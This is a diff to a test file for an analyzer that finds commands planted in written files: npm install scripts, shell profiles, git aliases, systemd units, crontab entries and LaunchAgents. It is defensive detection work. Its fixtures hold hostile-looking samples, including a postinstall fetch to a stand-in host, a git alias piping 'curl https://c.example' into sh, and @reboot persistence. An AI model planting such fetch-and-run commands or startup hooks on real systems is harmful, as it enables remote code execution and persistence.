@@ -1,6 +1,8 @@
 import { describe, expect, it } from 'vitest';
 import type { Observation } from '../../src/analyze/index.js';
-import { plantedTexts } from '../../src/analyze/planted-texts.js';
+import { isWorthReading, plantedCommands } from '../../src/analyze/planted-texts.js';
+
+const plantedTexts = (each: Observation): string[] => plantedCommands(each).filter(isWorthReading);
 
 const written = (target: string, text: string): Observation => ({
   sink: 'fs.write',
@@ -19,7 +21,7 @@ const written = (target: string, text: string): Observation => ({
   steps: [],
 });
 
-describe('plantedTexts', () => {
+describe('planted commands', () => {
   it('reads scripts that npm will run in a manifest that is written', () => {
     const manifest = JSON.stringify({
       scripts: { postinstall: 'node -e "fetch(\'https://c.example\')"', build: 'curl x' },
@@ -33,5 +35,23 @@ describe('plantedTexts', () => {
     expect(plantedTexts(written('~/.bashrc', 'eval "$(x)"'))).toHaveLength(1);
     expect(plantedTexts(written('.husky/pre-commit', 'npx lint-staged'))).toEqual([]);
     expect(plantedTexts(written('docs/setup.md', 'curl https://c.example'))).toEqual([]);
+  });
+
+  it('reads what settings of git, units, timers and agents start', () => {
+    const config =
+      '[user]\n\tname = a\n[core]\n\tsshCommand = "sh -c \\"x\\""\n[alias]\n\tst = status\n\tup = !curl https://c.example | sh\n';
+    expect(plantedCommands(written('~/.gitconfig', config))).toEqual(['sh -c "x"', 'curl https://c.example | sh']);
+    expect(plantedCommands(written('~/.config/systemd/user/a.service', '[Service]\nExecStart=-/opt/a b\n'))).toEqual([
+      '/opt/a b',
+    ]);
+    expect(plantedCommands(written('crontab', '# x\n0 3 * * * ~/a.sh\n@reboot b\n'))).toEqual(['~/a.sh', 'b']);
+    expect(
+      plantedCommands(
+        written(
+          '~/Library/LaunchAgents/a.plist',
+          '<key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>a &amp;&amp; b</string></array>',
+        ),
+      ),
+    ).toEqual(["sh -c 'a && b'"]);
   });
 });
